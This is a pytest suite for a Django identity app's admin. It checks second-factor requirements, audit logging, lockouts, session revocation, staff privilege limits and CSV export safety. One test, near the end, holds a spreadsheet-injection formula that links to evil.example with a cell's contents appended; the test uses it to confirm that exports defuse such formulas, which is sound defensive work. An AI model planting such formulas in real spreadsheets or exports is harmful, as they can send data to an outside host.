import csv
import io
import re
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone
from django_otp.plugins.otp_totp.models import TOTPDevice

from accounts.models import AppSettings, AuditEvent, BackupCodeDevice, LoginThrottle, User, UserSession
from accounts.tests.factories import PASSWORD, StaffFactory, UserFactory, totp_code, totp_device

pytestmark = pytest.mark.django_db


def signed_in(user, device=None):
    browser = Client()
    browser.post("/login/", {"email": user.email, "password": PASSWORD})
    if device is not None:
        browser.post("/login/code/", {"code": totp_code(device)})
    return browser


@pytest.fixture
def admin_browser():
    return signed_in(StaffFactory(email="root@example.com"))


def test_admin_login_page_is_the_sites_sign_in_page():
    UserFactory()
    response = Client().get("/admin/")
    assert response["Location"].startswith("/admin/login/")
    assert Client().get(response["Location"])["Location"] == "/login/?next=%2Fadmin%2F"


def test_admin_needs_a_verified_second_factor_when_one_exists():
    admin = StaffFactory(email="root@example.com")
    device = totp_device(admin)
    browser = signed_in(admin, device)
    assert browser.get("/admin/").status_code == 200
    # A session that somehow skipped the code (e.g. a test login) does not get in.
    unverified = Client()
    unverified.force_login(admin)
    assert unverified.get("/admin/").status_code == 302


def test_members_are_sent_to_no_access(client):
    member = UserFactory()
    browser = signed_in(member)
    response = browser.get("/admin/", follow=True)
    assert response.redirect_chain[-1][0] == "/no-access/"


def test_totp_required_for_staff_sends_staff_to_enrolment():
    AppSettings.objects.update_or_create(pk=1, defaults={"totp_required_for_staff": True})
    admin = StaffFactory(email="root@example.com")
    browser = signed_in(admin)
    assert browser.get("/admin/")["Location"] == "/security/"
    assert browser.get("/profile/")["Location"] == "/security/"
    assert browser.get("/security/").status_code == 200
    member = signed_in(UserFactory())
    assert member.get("/profile/").status_code == 200


def test_creating_a_person_in_the_admin_is_audited_without_the_password(admin_browser):
    response = admin_browser.post(
        "/admin/accounts/user/add/",
        {
            "email": "New@Example.com",
            "full_name": "New Person",
            "password1": "a new pass phrase 8",
            "password2": "a new pass phrase 8",
            "usable_password": "true",
        },
    )
    assert response.status_code == 302, response.context["adminform"].form.errors
    assert User.objects.filter(email="new@example.com").exists()
    event = AuditEvent.objects.get(action="admin.add")
    assert event.actor_label == "root@example.com" and event.target_label == "new@example.com"
    assert "pass phrase" not in "".join(AuditEvent.objects.values_list("description", flat=True))


def test_a_duplicate_address_differing_in_case_is_refused_in_the_admin(admin_browser):
    UserFactory(email="ann@example.com")
    response = admin_browser.post(
        "/admin/accounts/user/add/",
        {
            "email": "ANN@example.com",
            "password1": "a new pass phrase 8",
            "password2": "a new pass phrase 8",
            "usable_password": "true",
        },
    )
    assert response.status_code == 200
    assert "already exists" in response.content.decode()
    assert User.objects.filter(email__iexact="ann@example.com").count() == 1


def test_reset_second_factor_action_removes_devices_and_is_audited(admin_browser):
    ann = UserFactory(email="ann@example.com")
    totp_device(ann)
    BackupCodeDevice.objects.create(user=ann, name="Backup codes")
    admin_browser.post("/admin/accounts/user/", {"action": "reset_second_factor", "_selected_action": [ann.pk]})
    assert not TOTPDevice.objects.filter(user=ann).exists()
    assert not BackupCodeDevice.objects.filter(user=ann).exists()
    event = AuditEvent.objects.get(action="totp.reset")
    assert event.actor_label == "root@example.com" and event.target_label == "ann@example.com"


def test_revoke_all_sessions_action_signs_the_person_out_everywhere(admin_browser):
    ann = UserFactory(email="ann@example.com")
    browsers = [signed_in(ann), signed_in(ann)]
    admin_browser.post("/admin/accounts/user/", {"action": "revoke_sessions", "_selected_action": [ann.pk]})
    assert all(b.get("/profile/").status_code == 302 for b in browsers)
    assert not UserSession.objects.filter(user=ann).exists()
    assert AuditEvent.objects.filter(action="session.revoke_all", target_label="ann@example.com").exists()


def test_an_administrator_can_clear_a_lockout(admin_browser):
    ann = UserFactory(email="ann@example.com")
    for _ in range(5):
        Client().post("/login/", {"email": "ann@example.com", "password": "wrong password 1"})
    assert "Try again" in Client().post("/login/", {"email": ann.email, "password": PASSWORD}).content.decode()
    admin_browser.post("/admin/accounts/user/", {"action": "clear_lockouts", "_selected_action": [ann.pk]})
    assert not LoginThrottle.objects.filter(scope="account", key="ann@example.com").exists()
    assert Client().post("/login/", {"email": ann.email, "password": PASSWORD})["Location"] == "/profile/"
    assert AuditEvent.objects.filter(action="signin.lockout_cleared").exists()


def test_app_settings_is_one_row_edited_in_the_admin(admin_browser):
    response = admin_browser.get("/admin/accounts/appsettings/")
    assert response["Location"] == "/admin/accounts/appsettings/1/change/"
    data = {
        "site_name": "Acme ID",
        "session_idle_timeout_minutes": 60,
        "lockout_account_failures": 3,
        "lockout_ip_failures": 10,
        "lockout_minutes": 5,
        "audit_retention_days": 90,
    }
    assert admin_browser.post("/admin/accounts/appsettings/1/change/", data).status_code == 302
    assert AppSettings.load().site_name == "Acme ID"
    assert "Acme ID" in Client().get("/login/").content.decode()
    bad = admin_browser.post("/admin/accounts/appsettings/1/change/", {**data, "session_idle_timeout_minutes": 1})
    assert "greater than or equal to 5" in bad.content.decode()
    assert AppSettings.load().session_idle_timeout_minutes == 60


def test_the_settings_page_spells_totp_and_ip_in_capitals(admin_browser):
    page = admin_browser.get("/admin/accounts/appsettings/1/change/").content.decode()

    assert ">TOTP required for staff</label>" in page
    assert ">Lockout IP failures:</label>" in page
    assert "Totp" not in page and "Lockout ip" not in page


def test_the_audit_log_and_sessions_name_the_ip_address_in_capitals(admin_browser):
    for url in ("/admin/accounts/auditevent/", "/admin/accounts/usersession/"):
        page = admin_browser.get(url).content.decode()
        assert "IP address</a>" in page, url
        assert ">Ip<" not in page and ">Ip</a>" not in page, url


def test_audit_log_is_searchable_and_exports_csv_with_filters(admin_browser):
    Client().post("/login/", {"email": "ghost@example.com", "password": "wrong password 1"})
    page = admin_browser.get("/admin/accounts/auditevent/?q=ghost").content.decode()
    assert "ghost@example.com" in page
    response = admin_browser.get("/admin/accounts/auditevent/export/?action__exact=signin.failure")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["at", "actor_label", "ip", "action"]
    assert {row[3] for row in rows[1:]} == {"signin.failure"}
    assert AuditEvent.objects.filter(action="audit.export").exists()


def test_audit_events_cannot_be_changed_or_deleted_in_the_admin(admin_browser):
    event = AuditEvent.objects.first()
    assert admin_browser.post(f"/admin/accounts/auditevent/{event.pk}/delete/", {"post": "yes"}).status_code == 403
    assert AuditEvent.objects.filter(pk=event.pk).exists()


def test_csv_export_defuses_spreadsheet_formulas(admin_browser):
    AuditEvent.objects.create(action="test", description='=HYPERLINK("http://x")')
    response = admin_browser.get("/admin/accounts/auditevent/export/?action__exact=test")
    assert "'=HYPERLINK" in b"".join(response.streaming_content).decode()


def test_totp_secrets_are_not_in_the_admin(admin_browser):
    ann = UserFactory()
    totp_device(ann)
    assert admin_browser.get("/admin/otp_totp/totpdevice/").status_code == 404
    assert "TOTP devices" not in admin_browser.get("/admin/").content.decode()


@pytest.fixture
def viewer_browser():
    """Staff who may only view people and the audit log's list is not theirs."""
    from django.contrib.auth.models import Permission

    viewer = UserFactory(email="viewer@example.com", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_user"))
    return signed_in(viewer)


def test_view_only_staff_cannot_run_sign_in_actions(viewer_browser):
    root = StaffFactory(email="root@example.com")
    device = totp_device(root)
    response = viewer_browser.post(
        "/admin/accounts/user/", {"action": "reset_second_factor", "_selected_action": [root.pk]}
    )
    assert response.status_code in (200, 302)
    assert TOTPDevice.objects.filter(pk=device.pk).exists()
    assert not AuditEvent.objects.filter(action="totp.reset").exists()


def test_staff_who_are_not_superusers_cannot_reset_a_superusers_factor():
    from django.contrib.auth.models import Permission

    helper = UserFactory(email="helper@example.com", is_staff=True)
    helper.user_permissions.add(*Permission.objects.filter(codename__in=["view_user", "change_user"]))
    root = StaffFactory(email="root@example.com")
    device = totp_device(root)
    ann = UserFactory(email="ann@example.com")
    anns = totp_device(ann)
    signed_in(helper).post(
        "/admin/accounts/user/", {"action": "reset_second_factor", "_selected_action": [root.pk, ann.pk]}
    )
    assert TOTPDevice.objects.filter(pk=device.pk).exists()
    assert not TOTPDevice.objects.filter(pk=anns.pk).exists()


def shown_levels(response):
    return [(m.level_tag, str(m)) for m in response.context["messages"]]


@pytest.mark.parametrize("action", ["deactivate", "reset_second_factor", "revoke_sessions", "clear_lockouts"])
def test_a_people_action_refused_for_everyone_shows_only_the_refusal(action):
    root = StaffFactory(email="root@example.com")
    browser = signed_in(people_staff())

    response = browser.post("/admin/accounts/user/", {"action": action, "_selected_action": [root.pk]}, follow=True)

    assert shown_levels(response) == [
        ("error", "Only a superuser can do this to a superuser: skipped root@example.com.")
    ]
    assert User.objects.get(pk=root.pk).is_active


def test_a_people_action_that_finds_nothing_to_do_says_so_without_a_green_zero(admin_browser):
    ann = UserFactory(email="ann@example.com")

    response = admin_browser.post(
        "/admin/accounts/user/", {"action": "clear_lockouts", "_selected_action": [ann.pk]}, follow=True
    )

    assert shown_levels(response) == [("info", "Nothing to clear: they were not locked out.")]


def test_audit_export_needs_permission_to_view_the_log(viewer_browser):
    assert viewer_browser.get("/admin/accounts/auditevent/export/").status_code == 403


def test_audit_export_with_a_bad_filter_is_a_message_not_an_error(admin_browser):
    response = admin_browser.get("/admin/accounts/auditevent/export/?at__gte=notadate", follow=True)
    assert response.status_code == 200
    assert "Those filters do not apply" in response.content.decode()


def test_signing_oneself_out_everywhere_from_the_admin_ends_cleanly(admin_browser):
    root = User.objects.get(email="root@example.com")
    response = admin_browser.post("/admin/accounts/user/", {"action": "revoke_sessions", "_selected_action": [root.pk]})
    assert response.status_code == 302 and response["Location"] == "/login/"
    assert admin_browser.get("/profile/").status_code == 302


def test_a_password_set_in_the_admin_signs_the_person_out(admin_browser):
    ann = UserFactory(email="ann@example.com")
    browser = signed_in(ann)
    new = "an admin chosen phrase 5"
    response = admin_browser.post(
        f"/admin/accounts/user/{ann.pk}/password/", {"password1": new, "password2": new, "usable_password": "true"}
    )
    assert response.status_code == 302
    assert browser.get("/profile/").status_code == 302
    ann.refresh_from_db()
    assert ann.check_password(new)


def people_staff(email="helper@example.com"):
    """Staff who may view and change people, nothing more."""
    from django.contrib.auth.models import Permission

    helper = UserFactory(email=email, is_staff=True)
    helper.user_permissions.add(*Permission.objects.filter(codename__in=["view_user", "change_user"]))
    return helper


def change_page_values(browser, url):
    """What a browser posts back from a person's change page when nothing is edited."""
    response = browser.get(url)
    assert response.status_code == 200, response.status_code
    data = {}
    for bound in response.context["adminform"].form:
        value = bound.value()
        if bound.field.disabled or value is None or value is False:
            continue
        data[bound.html_name] = "on" if value is True else value
    return data


def test_staff_who_may_change_people_cannot_make_themselves_superuser():
    from django.contrib.auth.models import Permission

    helper = people_staff()
    browser = signed_in(helper)
    url = f"/admin/accounts/user/{helper.pk}/change/"
    everything = list(Permission.objects.values_list("pk", flat=True))
    data = {**change_page_values(browser, url), "full_name": "Helper Renamed"}

    response = browser.post(url, {**data, "is_superuser": "on", "is_staff": "on", "user_permissions": everything})

    assert response.status_code == 302  # the flags are read-only: the rest of the form still saves
    helper.refresh_from_db()
    assert helper.full_name == "Helper Renamed"
    assert not helper.is_superuser
    assert set(helper.user_permissions.values_list("codename", flat=True)) == {"view_user", "change_user"}


def test_a_superuser_still_grants_staff_and_permissions(admin_browser):
    ann = UserFactory(email="ann@example.com")
    url = f"/admin/accounts/user/{ann.pk}/change/"
    data = change_page_values(admin_browser, url)

    response = admin_browser.post(url, {**data, "is_staff": "on", "is_superuser": "on"})

    assert response.status_code == 302
    ann.refresh_from_db()
    assert ann.is_staff and ann.is_superuser


def test_staff_who_are_not_superusers_cannot_change_a_superusers_email_or_password():
    root = StaffFactory(email="root@example.com")
    browser = signed_in(people_staff())
    before = root.password
    new = "a takeover pass phrase 9"

    change = browser.post(f"/admin/accounts/user/{root.pk}/change/", {"email": "mine@example.com", "is_active": "on"})
    password = browser.post(
        f"/admin/accounts/user/{root.pk}/password/", {"password1": new, "password2": new, "usable_password": "true"}
    )

    assert change.status_code == 403 and password.status_code == 403
    root.refresh_from_db()
    assert root.email == "root@example.com" and root.password == before


def test_staff_who_may_change_people_change_an_ordinary_persons_email_and_password():
    ann = UserFactory(email="ann@example.com")
    browser = signed_in(people_staff())
    new = "a helper chosen phrase 9"
    url = f"/admin/accounts/user/{ann.pk}/change/"

    change = browser.post(url, {**change_page_values(browser, url), "email": "ann2@example.com"})
    password = browser.post(
        f"/admin/accounts/user/{ann.pk}/password/", {"password1": new, "password2": new, "usable_password": "true"}
    )

    assert change.status_code == 302 and password.status_code == 302
    ann.refresh_from_db()
    assert ann.email == "ann2@example.com" and ann.check_password(new)


def test_activating_a_pending_registration_in_the_admin_removes_the_self_chosen_password(admin_browser):
    pending = UserFactory(email="ann@example.com", is_active=False, is_pending_registration=True)
    url = f"/admin/accounts/user/{pending.pk}/change/"

    response = admin_browser.post(url, {**change_page_values(admin_browser, url), "is_active": "on"})

    assert response.status_code == 302
    pending.refresh_from_db()
    assert pending.is_active and not pending.is_pending_registration
    assert not pending.has_usable_password() and not pending.check_password(PASSWORD)
    assert AuditEvent.objects.filter(action="registration.pending_cleared", target_label="ann@example.com").exists()


LAST_SUPERUSER = "root@example.com is the last active superuser; make another superuser first."


def test_unticking_active_for_the_last_active_superuser_is_refused_on_the_form(admin_browser):
    root = User.objects.get(email="root@example.com")
    url = f"/admin/accounts/user/{root.pk}/change/"
    data = change_page_values(admin_browser, url)
    del data["is_active"]

    response = admin_browser.post(url, data)

    assert response.status_code == 200
    assert response.context["adminform"].form.errors["is_active"] == [LAST_SUPERUSER]
    root.refresh_from_db()
    assert root.is_active
    assert admin_browser.get("/admin/").status_code == 200  # still signed in
    assert not AuditEvent.objects.filter(action="user.deactivate").exists()

    # Positive control: another superuser's box unticks while root stays.
    other = StaffFactory(email="root2@example.com")
    url = f"/admin/accounts/user/{other.pk}/change/"
    data = change_page_values(admin_browser, url)
    del data["is_active"]
    assert admin_browser.post(url, data).status_code == 302
    other.refresh_from_db()
    assert not other.is_active


def test_the_last_active_superuser_keeps_the_superuser_status_and_cannot_be_deleted(admin_browser):
    root = User.objects.get(email="root@example.com")
    url = f"/admin/accounts/user/{root.pk}/change/"
    data = change_page_values(admin_browser, url)
    del data["is_superuser"]
    response = admin_browser.post(url, data)
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["is_superuser"] == [LAST_SUPERUSER]

    page = admin_browser.get(f"/admin/accounts/user/{root.pk}/delete/")
    assert "the last active superuser (make another superuser first)" in page.content.decode()
    assert admin_browser.post(f"/admin/accounts/user/{root.pk}/delete/", {"post": "yes"}).status_code == 403
    bulk = {"action": "delete_selected", "_selected_action": [root.pk], "post": "yes"}
    assert admin_browser.post("/admin/accounts/user/", bulk).status_code == 403
    root.refresh_from_db()
    assert root.is_superuser and root.is_active

    # Positive control: with a second superuser, the first one may step down, and the second may be deleted.
    other = StaffFactory(email="root2@example.com")
    assert admin_browser.post(url, data).status_code == 302
    root.refresh_from_db()
    assert not root.is_superuser
    root.is_superuser = True
    root.save()
    assert admin_browser.post(f"/admin/accounts/user/{other.pk}/delete/", {"post": "yes"}).status_code == 302
    assert not User.objects.filter(pk=other.pk).exists()


def test_the_deactivate_action_never_switches_off_the_last_active_superuser(admin_browser):
    root = User.objects.get(email="root@example.com")
    other = StaffFactory(email="root2@example.com")

    both = admin_browser.post(
        "/admin/accounts/user/", {"action": "deactivate", "_selected_action": [root.pk, other.pk]}, follow=True
    )

    ((level, text),) = shown_levels(both)  # whichever of the two comes second is the last one left
    assert level == "error"
    assert re.fullmatch(
        r"Nothing was changed: root2?@example\.com is the last active superuser; make another "
        r"superuser first\.",
        text,
    )
    assert User.objects.filter(is_superuser=True, is_active=True).count() == 2  # all or nothing
    assert admin_browser.get("/admin/").status_code == 200

    # Positive control: one of the two may go.
    one = admin_browser.post(
        "/admin/accounts/user/", {"action": "deactivate", "_selected_action": [other.pk]}, follow=True
    )
    assert shown_levels(one) == [("success", "Deactivated 1 person(s).")]
    other.refresh_from_db()
    assert not other.is_active


def test_changing_an_active_persons_name_keeps_their_password(admin_browser):
    ann = UserFactory(email="ann@example.com")
    url = f"/admin/accounts/user/{ann.pk}/change/"

    admin_browser.post(url, {**change_page_values(admin_browser, url), "full_name": "Ann B"})

    ann.refresh_from_db()
    assert ann.full_name == "Ann B" and ann.check_password(PASSWORD)


# --- lockouts and sessions go away only through the services that check whose they are ----------------


def staff_with(email, *codenames):
    from django.contrib.auth.models import Permission

    actor = UserFactory(email=email, is_staff=True)
    actor.user_permissions.set(Permission.objects.filter(content_type__app_label="accounts", codename__in=codenames))
    return signed_in(actor)


def test_deleting_lockouts_goes_through_the_clear_rule_so_a_superusers_lockout_stays():
    UserFactory(email="boss@example.com", is_staff=True, is_superuser=True)
    UserFactory(email="ann@example.com")
    boss = LoginThrottle.objects.create(scope=LoginThrottle.SCOPE_ACCOUNT, key="boss@example.com", failures=9)
    ann = LoginThrottle.objects.create(scope=LoginThrottle.SCOPE_ACCOUNT, key="ann@example.com", failures=9)
    browser = staff_with("thr@team.example", "view_loginthrottle", "delete_loginthrottle", "change_user")

    page = browser.get("/admin/accounts/loginthrottle/")
    assert b'value="delete_selected"' not in page.content
    browser.post(
        "/admin/accounts/loginthrottle/",
        {"action": "delete_selected", "_selected_action": [boss.pk], "post": "yes"},
    )
    assert browser.get(f"/admin/accounts/loginthrottle/{boss.pk}/delete/").status_code in (302, 403)
    browser.post(f"/admin/accounts/loginthrottle/{boss.pk}/delete/", {"post": "yes"})
    browser.post("/admin/accounts/loginthrottle/", {"action": "clear", "_selected_action": [boss.pk]})
    assert LoginThrottle.objects.filter(pk=boss.pk).exists()

    browser.post("/admin/accounts/loginthrottle/", {"action": "clear", "_selected_action": [ann.pk]})  # control
    assert not LoginThrottle.objects.filter(pk=ann.pk).exists()


def test_ending_sessions_in_the_admin_needs_the_right_to_manage_their_person():
    boss = UserFactory(email="boss@example.com", is_staff=True, is_superuser=True)
    ann = UserFactory(email="ann@example.com")
    boss_browser, ann_browser = signed_in(boss), signed_in(ann)
    assert boss_browser.get("/admin/").status_code == 200
    boss_row = UserSession.objects.get(user=boss)
    ann_row = UserSession.objects.get(user=ann)

    only_sessions = staff_with("sess@team.example", "view_usersession", "delete_usersession")
    page = only_sessions.get("/admin/accounts/usersession/")
    assert b'value="delete_selected"' not in page.content and b'value="end_sessions"' in page.content
    only_sessions.post(
        "/admin/accounts/usersession/", {"action": "delete_selected", "_selected_action": [boss_row.pk], "post": "yes"}
    )
    only_sessions.post(f"/admin/accounts/usersession/{boss_row.pk}/delete/", {"post": "yes"})
    only_sessions.post("/admin/accounts/usersession/", {"action": "end_sessions", "_selected_action": [ann_row.pk]})
    assert UserSession.objects.filter(pk__in=[boss_row.pk, ann_row.pk]).count() == 2
    assert boss_browser.get("/admin/").status_code == 200

    people = staff_with("people@team.example", "view_usersession", "delete_usersession", "change_user")
    people.post("/admin/accounts/usersession/", {"action": "end_sessions", "_selected_action": [boss_row.pk]})
    assert boss_browser.get("/admin/").status_code == 200  # only a superuser ends a superuser's session
    people.post("/admin/accounts/usersession/", {"action": "end_sessions", "_selected_action": [ann_row.pk]})
    assert not UserSession.objects.filter(pk=ann_row.pk).exists()
    assert ann_browser.get("/profile/")["Location"].startswith("/login/")
    assert AuditEvent.objects.filter(action="session.revoke", target_label__contains="ann@example.com").exists()


def test_a_session_with_nobody_signed_in_yet_is_ended_only_by_a_superuser():
    # A sign-in waiting for its code has no person on its row yet: it may be a superuser's.
    half_done = UserSession.objects.create(
        session_key="h" * 64, user=None, session_data="", expire_date=timezone.now() + timedelta(hours=1)
    )
    people = staff_with("people@team.example", "view_usersession", "delete_usersession", "change_user")
    response = people.post(
        "/admin/accounts/usersession/", {"action": "end_sessions", "_selected_action": [half_done.pk]}, follow=True
    )
    assert UserSession.objects.filter(pk=half_done.pk).exists()
    assert "only a superuser ends a session that has nobody signed in yet" in response.content.decode()

    boss = signed_in(UserFactory(email="boss@example.com", is_staff=True, is_superuser=True))
    boss.post("/admin/accounts/usersession/", {"action": "end_sessions", "_selected_action": [half_done.pk]})
    assert not UserSession.objects.filter(pk=half_done.pk).exists()


# Finding 9: the audit export uses the CSV cell rule of every export (dockspace.csv_cells).
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.django_db
def test_the_audit_export_uses_the_same_cell_rule():
    AuditEvent.objects.create(action="test", description=FORMULA, target_label="@evil")
    AuditEvent.objects.create(action="test", description="plain words", target_label="ann@example.com")
    staff = StaffFactory(email="root@example.com")
    browser = Client()
    browser.post("/login/", {"email": staff.email, "password": PASSWORD})
    response = browser.get("/admin/accounts/auditevent/export/?action__exact=test")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(text.splitlines()))
    assert ["'" + FORMULA, "'@evil"] in [[row[7], row[6]] for row in rows]
    assert ["plain words", "ann@example.com"] in [[row[7], row[6]] for row in rows]


def test_an_administrator_deletes_a_person_who_has_browser_sessions_and_the_sessions_go_with_them():
    admin_browser = signed_in(StaffFactory(email="root@example.com"))
    ann = UserFactory(email="ann@example.com")
    signed_in(ann)
    assert UserSession.objects.filter(user=ann).exists()

    page = admin_browser.get(f"/admin/accounts/user/{ann.pk}/delete/")
    assert page.status_code == 200 and b"permission to delete" not in page.content
    admin_browser.post(f"/admin/accounts/user/{ann.pk}/delete/", {"post": "yes"})
    assert not User.objects.filter(email="ann@example.com").exists()
    assert not UserSession.objects.filter(user_id=ann.pk).exists()
